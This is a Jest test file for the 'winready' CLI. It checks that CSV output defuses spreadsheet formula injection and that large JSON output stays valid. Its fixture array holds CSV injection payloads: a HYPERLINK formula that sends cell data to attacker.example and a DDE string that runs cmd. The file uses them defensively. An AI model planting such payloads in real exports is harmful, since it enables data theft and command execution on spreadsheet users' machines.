/**
 * Abuse: what the real `winready` writes. A CSV opened in a spreadsheet runs
 * no formula that a fleet file smuggled into a service id or a message, and
 * JSON output is written in pieces, so a fleet far larger than one string can
 * hold still prints (the 200,000-pod case: output.large.test.ts).
 */
import { parseCsv } from '@winready/plugin-windows-readiness-common';
import fs from 'node:fs';
import path from 'node:path';
import { stringify } from 'yaml';
import { tempDir } from '../__testUtils__/files';
import { spawnWinready } from '../__testUtils__/spawnCli';

jest.setTimeout(60_000);

const scratch = tempDir();
afterAll(() => scratch.remove());

const FORMULAS = [
  '=HYPERLINK("http://attacker.example/?"&A1,"click")',
  '+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTAB',
  '\rCR',
];

function fleetNaming(ids: string[]) {
  return stringify({
    apiVersion: 'winready/v1',
    kind: 'Fleet',
    metadata: { name: 'formulas' },
    clusters: [
      {
        name: 'c',
        nodePools: [{ name: 'np', osType: 'Linux' }],
        objects: ids.map((id, i) => ({
          apiVersion: 'apps/v1',
          kind: 'Deployment',
          metadata: {
            name: `d${i}`,
            namespace: 'n',
            labels: { 'backstage.io/kubernetes-id': id },
          },
          spec: {
            template: {
              spec: {
                containers: [{ name: 'c', image: `example.com/i${i}:1` }],
              },
            },
          },
        })),
      },
    ],
  });
}

describe('CSV output', () => {
  it('neutralises cells that a spreadsheet would run as formulas', async () => {
    const file = scratch.write('formulas.yaml', fleetNaming(FORMULAS));
    const run = await spawnWinready(['evaluate', file, '--format', 'csv']);
    expect([run.code, run.stderr]).toEqual([0, '']);
    const services = parseCsv(run.stdout)
      .slice(1)
      .map(row => row[0]);
    expect([...new Set(services)].sort()).toEqual(
      FORMULAS.map(id => `'${id}`).sort(),
    );
    for (const row of parseCsv(run.stdout)) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe('JSON output', () => {
  it('is the whole result, in one valid document', async () => {
    const ids = Array.from({ length: 300 }, (_, i) => `svc-${i}`);
    const file = scratch.write('many.yaml', fleetNaming(ids));
    const out = path.join(scratch.dir, 'out.json');
    const run = await spawnWinready(['evaluate', file, '--format', 'json'], {
      stdoutFile: out,
    });
    expect([run.code, run.stderr]).toEqual([0, '']);
    const result = JSON.parse(fs.readFileSync(out, 'utf8'));
    expect(result.services).toHaveLength(300);
  });
});
